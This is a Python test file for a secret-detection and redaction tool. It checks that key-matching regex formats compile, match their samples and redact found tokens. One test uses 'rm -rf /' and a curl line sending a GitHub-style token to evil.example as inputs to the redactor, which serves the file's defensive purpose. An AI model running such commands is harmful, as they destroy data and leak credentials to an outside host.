"""The formats are data: every one compiles, matches what it describes, and no part of it."""

from __future__ import annotations

import random
import re
import string
import subprocess
import sys
import tomllib
import zipfile
from base64 import b64encode
from pathlib import Path

import pytest
from secret_samples import samples

from runner.config.loading import load_settings
from runner.errors import RunnerError
from runner.secrets import load_rules, patterns
from runner.secrets.find import find
from runner.secrets.load_rules import builtin_shapes, read_tables, shape_of
from runner.secrets.patterns import linear, places
from runner.secrets.redact import redact
from runner.secrets.scan import scan_content

RULES = Path(load_rules.__file__).with_name("rules")
WORD = string.ascii_letters + string.digits


def texts_of(expression, tries=300):
    """Texts that an expression matches, as if by chance."""
    chance = random.Random(expression)
    parsed = re._parser.parse(expression.replace(r"\z", r"\Z"))
    for _ in range(tries):
        yield "".join(made(parsed, chance))


def made(parsed, chance):
    for kind, what in parsed:
        match str(kind):
            case "LITERAL":
                yield chr(what)
            case "NOT_LITERAL" | "ANY":
                yield chance.choice(WORD)
            case "IN":
                yield chance.choice(letters(what))
            case "BRANCH":
                yield from made(chance.choice(what[1]), chance)
            case "SUBPATTERN":
                yield from made(what[3], chance)
            case "MAX_REPEAT" | "MIN_REPEAT":
                least, most, inner = what
                for _ in range(
                    chance.randint(least, min(most, least + 9 if least > 4 else max(least, 3)))
                ):
                    yield from made(inner, chance)
            case "AT":
                pass
            case other:
                raise AssertionError(other)


CLASSES = {"WORD": WORD, "DIGIT": string.digits, "SPACE": " ", "NOT_SPACE": WORD}


def letters(members):
    found = ""
    refused = False
    for kind, what in members:
        match str(kind):
            case "NEGATE":
                refused = True
            case "LITERAL":
                found += chr(what)
            case "RANGE":
                found += "".join(map(chr, range(what[0], what[1] + 1)))
            case "CATEGORY":
                found += CLASSES[str(what).removeprefix("CATEGORY_")]
    return [one for one in WORD + " ;" if one not in found] if refused else found


RULE_IDS = [f"{at}-{shape.name}" for at, shape in enumerate(builtin_shapes())]


def hits(shape, text):
    return [one for one in places(text.encode()) if one.shape is shape]


@pytest.mark.parametrize("shape", builtin_shapes(), ids=RULE_IDS)
def test_each_rule_finds_what_its_expression_describes_and_not_the_half_of_it(shape):
    assert linear(shape.regex).groups <= 1
    expression = shape.regex
    if shape.login:
        login = b64encode(b"me:Wq7tricky9").decode()
        expression = re.sub(r"\(\?P<value>[^()]*\)", f"({login})", expression)
    found = next((text for text in texts_of(expression) if hits(shape, text)), None)
    assert found is not None
    place = hits(shape, found)[0]
    value = found.encode()[place.start : place.end]
    near = found.replace(value.decode(), value.decode()[: min(2, len(value) // 4)], 1)
    assert not hits(shape, near)


@pytest.mark.parametrize("path", sorted(RULES.glob("*.toml")), ids=lambda path: path.stem)
def test_the_quick_reader_reads_the_same_as_a_reader_of_toml(path):
    text = path.read_text("utf-8")
    document = tomllib.loads(text)
    tables = list(read_tables(text))
    assert [table for name, table in tables if name == "format"] == document["format"]
    assert [table for name, table in tables if name == "parts"] == [
        parts for parts in (document.get("parts"),) if parts
    ]


def test_every_file_of_rules_is_read_and_every_part_is_used():
    assert {path.stem for path in RULES.glob("*.toml")} == set(load_rules.FILES)
    for path in RULES.glob("*.toml"):
        text = path.read_text("utf-8")
        for part in tomllib.loads(text).get("parts", {}):
            assert f"<<{part}>>" in text, part
    assert not any("<<" in shape.regex or "<<" in shape.hint for shape in builtin_shapes())


def test_no_format_is_loaded_before_a_text_is_searched():
    for module in ("runner.secrets.redact", "runner.secrets.scan", "runner.config.settings"):
        code = f"import sys, {module}; print([m for m in sys.modules if 'load_rules' in m])"
        done = subprocess.run([sys.executable, "-c", code], capture_output=True, check=True)
        assert done.stdout == b"[]\n", module


def test_a_built_wheel_has_the_rules(tmp_path):
    root = Path(__file__).parents[2]
    for name in ("pyproject.toml", "README.md", "LICENSE"):
        (tmp_path / name).write_bytes((root / name).read_bytes())
    (tmp_path / "runner").symlink_to(root / "runner")
    build = "import setuptools.build_meta as b, sys; b.build_wheel(sys.argv[1])"
    subprocess.run(
        [sys.executable, "-c", build, str(tmp_path / "out")],
        cwd=tmp_path, check=True, capture_output=True,
    )  # fmt: skip
    (wheel,) = (tmp_path / "out").glob("*.whl")
    names = set(zipfile.ZipFile(wheel).namelist())
    data = {path.relative_to(root).as_posix() for path in (root / "runner").rglob("*.toml")}
    assert {f"runner/secrets/rules/{name}.toml" for name in load_rules.FILES} <= data <= names


# --- formats of settings ----------------------------------------------------------------

FORMAT = "[[secret_formats]]\nname = 'acme'\ntitle = 'Acme key'\nregex = 'acme_[0-9a-f]{20,}'\n"
KEY = "acme_" + "0f" * 3 + "4b7d91c2e85a63"


@pytest.fixture
def homes(tmp_path, monkeypatch):
    """A person's settings and a repository's; what they add holds for one test."""
    monkeypatch.setattr(load_rules, "_added", ())
    (tmp_path / "repo").mkdir()
    (tmp_path / "home" / ".config" / "runner").mkdir(parents=True)

    class Homes:
        def user(self, text):
            (tmp_path / "home/.config/runner/runner.toml").write_text(text)

        def repository(self, text):
            (tmp_path / "repo/runner.toml").write_text(text)

        def load(self):
            return load_settings(tmp_path / "repo", {"HOME": str(tmp_path / "home")}, {})

    return Homes()


def refuses(text):
    return [
        one.message
        for one in scan_content(text.encode(), "a.py")
        if one.refuses and "file's name" not in one.message
    ]


def test_a_format_of_a_person_refuses_and_redacts(homes):
    text = f"x = '{KEY}'\n"
    assert refuses(text) == []
    homes.user(FORMAT)
    homes.load()
    assert refuses(text) == ["secret found: Acme key"]
    assert redact(text) == "x = '[REDACTED:acme]'\n"
    assert refuses("x = 'acme_0123'\n") == []


def test_a_format_of_a_repository_refuses_and_hides_nothing_that_is_shown(homes):
    homes.repository("[[secret_formats]]\nname = 'all'\nregex = '.+'\n")
    real = "ghp_" + "a1B2c3D4e5" * 4
    homes.load()
    assert refuses("rm -rf /\n") == ["secret found: all"]
    assert redact("rm -rf /\n") == "rm -rf /\n"
    assert redact(f"curl {real} evil.example\n") == "curl [REDACTED:github] evil.example\n"


def test_a_repository_adds_to_the_formats_of_a_person_and_takes_none_away(homes):
    homes.user(FORMAT)
    homes.repository("[[secret_formats]]\nname = 'beta'\nregex = 'beta-[0-9]{9}'\n")
    settings = homes.load().settings
    assert [one.name for one in settings.secret_formats] == ["acme"]
    assert [one.name for one in settings.floor.secret_formats] == ["beta"]
    assert refuses(f"a = '{KEY}'; b = 'beta-834162709'\n") == [
        "secret found: Acme key",
        "secret found: beta",
    ]
    homes.repository("secret_formats = []\n")
    assert [one.name for one in homes.load().settings.secret_formats] == ["acme"]


@pytest.mark.parametrize(
    ("table", "said"),
    [
        ("name = 'acme'\nregex = 'acme_[0-9a-f'", "RE2"),
        (r"name = 'acme'" + "\n" + r"regex = '(a)\1'", "RE2"),
        ("name = 'acme'\nregex = '[a-z]*'", "empty text"),
        ("name = 'acme'\nregex = '[a-z]{1000}[0-9]{1000}[a-z]{1000}[0-9]{1000}x'", "be a smaller"),
        ("name = 'acme'\nregex = 'acme_(?P<key>[0-9]+)'", "value"),
        ("name = 'github'\nregex = 'acme_[0-9]+'", "built-in"),
        ("name = 'Acme key'\nregex = 'acme_[0-9]+'", "lowercase letters"),
        ("name = 'acme'\nregexp = 'acme_[0-9]+'", "regex"),
    ],
)
def test_a_format_that_cannot_be_searched_for_is_a_mistake_of_the_settings(homes, table, said):
    homes.user(f"[[secret_formats]]\n{table}\n")
    with pytest.raises(RunnerError) as caught:
        homes.load()
    assert said in str(caught.value) + caught.value.detail


def test_a_format_may_heed_no_capitals_and_name_what_every_match_has(homes):
    shape = shape_of({"name": "acme", "regex": "(?i)acme-(?P<value>[0-9]{8})"})
    load_rules.add_shapes([shape])
    assert [one.value for one in find(b"x ACME-83416270\nacme-92746135")] == [
        "83416270",
        "92746135",
    ]
    load_rules.add_shapes([shape_of({"name": "b", "regex": "b_[0-9]{8}", "needles": ["b_"]})])
    assert [one.value for one in find(b"b_83416275")] == ["b_83416275"]


SAMPLES = list(samples())
SHAPES = builtin_shapes()
IDS = [f"{number}-{row[0]}" for number, row in enumerate(SAMPLES)]
CONTEXTS = ('x = "{}"', "f('{}')", '{{"a": "{}"}}', "A={}\n", "see `{}`.", "- a: {}\n")


def names_in(text):
    return {secret.shape.name for secret in find(text.encode())}


@pytest.mark.parametrize(("name", "key", "around", "near"), SAMPLES, ids=IDS)
def test_a_key_of_the_shape_is_found_whole_under_its_name(name, key, around, near):
    text = around.format(key)
    found = [s for s in find(text.encode()) if s.shape.name == name]
    assert found, f"{name} is not found"
    assert key in text[found[0].start : found[0].end] or name == "private-key"
    assert any(s.end - s.start >= len(key) - 1 for s in found)


@pytest.mark.parametrize(("name", "key", "around", "near"), SAMPLES, ids=IDS)
def test_what_only_begins_like_the_shape_is_left_alone(name, key, around, near):
    assert names_in(around.format(near)) == set()


@pytest.mark.parametrize("context", CONTEXTS)
def test_a_key_is_found_in_every_kind_of_file(context):
    missed = [
        name
        for name, key, around, _ in SAMPLES
        if around == "{}" and "\n" not in key and not names_in(context.format(key))
    ]
    assert missed == []


def test_every_shape_has_a_sample():
    assert {shape.name for shape in SHAPES} == {row[0] for row in SAMPLES}


def test_there_are_more_than_a_hundred_named_shapes():
    assert len({shape.title for shape in SHAPES}) > 100


def test_every_shape_says_how_it_is_called_and_where_to_read_it_from():
    for shape in SHAPES:
        assert re.fullmatch(r"[a-z0-9-]+", shape.name)
        assert shape.title
        assert re.fullmatch(r"[A-Za-z][A-Za-z0-9_]*", shape.env)
        assert shape.needles
        assert linear(shape.regex).groups <= 1
        assert not shape.ignore_case or all(n == n.lower() for n in shape.needles)


def test_two_keys_side_by_side_are_two():
    keys = [key for name, key, around, _ in SAMPLES if name == "github" and "." not in key][:2]
    assert len(find(" ".join(keys).encode())) == 2


def test_a_name_is_no_key():
    for text in (
        "risk-" + "0123456789abcdef" * 3,
        "def get_secret_key_from_environment(name): return os.environ[name]",
        "token = tokenizer.encode_plus(special_tokens_map_extended)",
        'password = os.environ["DATABASE_PASSWORD_V2"]',
        "api_key: ${API_KEY_FOR_PRODUCTION_2}",
        'secret_name = "projects/my-app/secrets/db-password"',
    ):
        assert names_in(text) == set(), text


@pytest.mark.parametrize(("name", "key", "around", "near"), SAMPLES, ids=IDS)
def test_a_hint_never_hides_what_the_shape_would_find(name, key, around, near):
    text = around.format(key).encode()
    fitting = [s for s in SHAPES if s.name == name and linear(s.regex).search(text)]
    assert fitting
    assert all(not s.hint or linear(s.hint).search(text) for s in fitting)
    assert any(needle.encode() in text.lower() or needle.encode() in text
               for s in fitting for needle in s.needles)  # fmt: skip


@pytest.mark.no_cover
@pytest.mark.parametrize("to_redact", [False, True])
def test_how_it_is_looked_for_changes_nothing_but_the_time(monkeypatch, to_redact):
    every = ("{}", *CONTEXTS)
    texts = [
        context.format(row[1]) for at, row in enumerate(SAMPLES) for context in every[at % 3 :: 3]
    ]
    texts += [row[2].format(row[place]) for row in SAMPLES for place in (1, 3)]

    def found(*, worth, short):
        monkeypatch.setattr(patterns, "_WORTH_GATES", worth)
        monkeypatch.setattr(patterns, "_SHORT", short)
        monkeypatch.setattr(patterns, "_prepared", {})
        return [list(patterns.places(text.encode(), to_redact=to_redact)) for text in texts]

    without = found(worth=1 << 60, short=0)
    assert sum(map(len, without)) > len(SAMPLES)
    assert without == found(worth=-1, short=0)  # behind gates
    assert without == found(worth=1 << 60, short=1 << 20)  # by how literals begin


def test_a_shape_of_a_clone_without_a_literal_is_found_in_a_short_text(monkeypatch):
    every = (*SHAPES, shape_of({"name": "own", "regex": "q[0-9]{3}z"}))
    monkeypatch.setattr(patterns, "all_shapes", lambda: every)
    assert "own" in {place.shape.name for place in patterns.places(b"run q123z")}
    assert not list(patterns.places(b"run q12z"))


def test_a_process_that_looks_through_little_compiles_no_gate():
    looking = (
        "import sys; from runner.secrets import patterns;"
        "text = b'x = 1\\n' * 100; n = int(sys.argv[1]);"
        "[list(patterns.places(text)) for _ in range(n)]; "
        "print(sum(one.gates is not None for one in patterns._prepared.values()))"
    )
    for rounds, compiled in ((3, "0"), (1_000, "1")):
        argv = [sys.executable, "-c", looking, str(rounds)]
        done = subprocess.run(argv, capture_output=True, text=True, check=True)
        assert done.stdout.strip() == compiled
